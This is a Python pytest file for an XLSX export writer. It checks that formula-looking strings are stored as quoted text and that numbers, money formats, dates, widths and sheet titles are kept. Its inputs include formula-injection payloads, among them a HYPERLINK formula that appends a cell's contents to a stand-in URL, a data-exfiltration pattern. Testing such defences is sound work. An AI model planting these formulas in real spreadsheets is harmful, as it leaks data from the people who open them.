"""wanian_exec.xlsx, the streaming writer of long exports: what openpyxl reads back is what was written — text as
text (a formula-looking string never a formula, with the quote prefix where editing would make it one), numbers,
money with its format, dates, booleans, empty cells; widths and the sheet's title."""
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from wanian_exec import spreadsheets
from wanian_exec.xlsx import BOLD, TITLE, XlsxWriter, column_letter


def read(rows, **kwargs):
    buffer = io.BytesIO()
    with XlsxWriter(buffer, **kwargs) as book:
        for values, options in rows:
            book.row(values, **options)
    return load_workbook(io.BytesIO(buffer.getvalue()))


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x"&B3,"点击查看")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1",
                                  "#N/A", "=1", "平常文字", " 前后空格 ", "<&>\"'"])
def test_every_string_is_a_text_cell(text):
    sheet = read([([text, 12], {})]).active
    cell = sheet["A1"]
    assert (cell.data_type, cell.value) == ("s", text)
    assert cell.quotePrefix == text.startswith(spreadsheets.FORMULA_TRIGGERS)
    assert sheet["B1"].value == 12


def test_numbers_money_dates_and_empty_cells_keep_their_types():
    book = read([(["标题"], {"style": TITLE}), (["案号", "金额"], {"style": BOLD}),
                 ([1, Decimal("1234.50"), dt.date(2024, 2, 29), None, True, 2.5, dt.datetime(2024, 1, 2, 3, 4, 5)],
                  {"money_columns": {1}})], sheet_title="终本案件库", widths=(6, 26))
    sheet = book.active
    assert sheet.title == "终本案件库"
    assert sheet["A1"].font.b and sheet["A1"].font.sz == 14 and sheet["A2"].font.b
    row = [c for c in sheet[3]]
    assert row[0].value == 1 and row[0].number_format == "General"
    assert row[1].value == 1234.5 and row[1].number_format == "#,##0.00"
    assert row[2].is_date and row[2].value.date() == dt.date(2024, 2, 29)
    assert row[3].value is None and row[4].value is True and row[5].value == 2.5
    assert row[6].value == dt.datetime(2024, 1, 2, 3, 4, 5)
    assert sheet.column_dimensions["B"].width == 26


def test_characters_xml_cannot_carry_are_dropped_and_wide_rows_are_lettered():
    sheet = read([(["a\x00b\x1fc", *range(1, 30)], {})]).active
    assert sheet["A1"].value == "abc" and sheet["AD1"].value == 29
    assert [column_letter(i) for i in (0, 25, 26, 701, 702)] == ["A", "Z", "AA", "ZZ", "AAA"]
